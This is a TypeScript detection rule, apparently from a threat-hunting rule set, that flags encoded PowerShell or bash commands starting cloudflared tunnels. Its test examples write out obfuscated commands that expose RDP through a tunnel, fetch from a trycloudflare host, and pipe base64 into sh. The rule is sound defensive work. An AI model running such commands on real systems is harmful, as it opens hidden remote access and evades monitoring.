import { all, any } from "../../../detect/condition.ts";
import type { Rule } from "../../../detect/rule.ts";
import { hasDecodedStart, hasEncodedStart } from "../encoded-start.ts";
import { scriptRan } from "./conditions.ts";

const encoded = (command: string): string => `powershell.exe -NoProfile -enc ${Buffer.from(command, "utf16le").toString("base64")}`;

export const cloudflaredEncodedCommand: Rule = {
	id: "cloudflared-encoded-command",
	title: "cloudflared started by an encoded command",
	family: "cloudflared",
	severity: "medium",
	set: "recommended",
	attack: ["T1059.001", "T1027.010", "T1572"],
	meaning:
		"A shell was given an encoded command that starts cloudflared or fetches through a quick tunnel. Encoding hides that from rules that read the command line.",
	tables: ["DeviceProcessEvents", "DeviceEvents"],
	when: any(
		hasEncodedStart("ProcessCommandLine"),
		hasEncodedStart("InitiatingProcessCommandLine"),
		hasDecodedStart("ProcessCommandLine"),
		hasDecodedStart("InitiatingProcessCommandLine"),
		all(scriptRan, any(hasEncodedStart("AdditionalFields"), hasDecodedStart("AdditionalFields"))),
	),
	runbook: [
		"Read the decoded command on the card: which tunnel, and what does it expose?",
		"Look in DeviceProcessEvents of this device, next 10 minutes, for children of this process.",
		"Ask the account in AccountName who gave it that command; management tools encode too.",
	],
	falsePositives: ["Management tools that hand their scripts to a shell encoded"],
	references: ["https://attack.mitre.org/techniques/T1059/001/", "https://attack.mitre.org/techniques/T1027/010/"],
	examples: {
		match: [
			{ FileName: "powershell.exe", ProcessCommandLine: encoded("cd C:\\Temp; .\\cloudflared.exe tunnel --url rdp://localhost:3389") },
			{ FileName: "powershell.exe", ProcessCommandLine: encoded("C:\\Temp\\x.exe tunnel --config C:\\Temp\\c.yml run") },
			{ FileName: "pwsh", ProcessCommandLine: encoded("& ./Cloudflared --hello-world").replace("-enc", "-e") },
			{ InitiatingProcessFileName: "powershell.exe", InitiatingProcessCommandLine: encoded("iwr https://a-b-c.trycloudflare.com/a") },
			{
				FileName: "bash",
				ProcessCommandLine: `bash -c "echo ${Buffer.from("/tmp/x tunnel run --token-file /tmp/t").toString("base64")} | base64 -d | sh"`,
			},
			{
				ActionType: "PowerShellCommand",
				AdditionalFields: JSON.stringify({ Command: encoded("C:\\Temp\\x.exe tunnel --url rdp://localhost:3389") }),
			},
		],
		ignore: [
			{
				ActionType: "ScheduledTaskCreated",
				AdditionalFields: JSON.stringify({ TaskContent: encoded("Get-Process | Out-File C:\\Temp\\p.txt") }),
			},
			{
				FileName: "bash",
				ProcessCommandLine: `bash -c "echo ${Buffer.from("the tunnel to Dover is open again").toString("base64")} | base64 -d"`,
			},
			{ FileName: "powershell.exe", ProcessCommandLine: encoded("Get-Process | Out-File C:\\Temp\\p.txt") },
			{ FileName: "powershell.exe", ProcessCommandLine: encoded("New-NetIPsecRule -DisplayName tunnel") },
			{ FileName: "powershell.exe", ProcessCommandLine: "powershell.exe -c cloudflared.exe tunnel" },
		],
	},
};
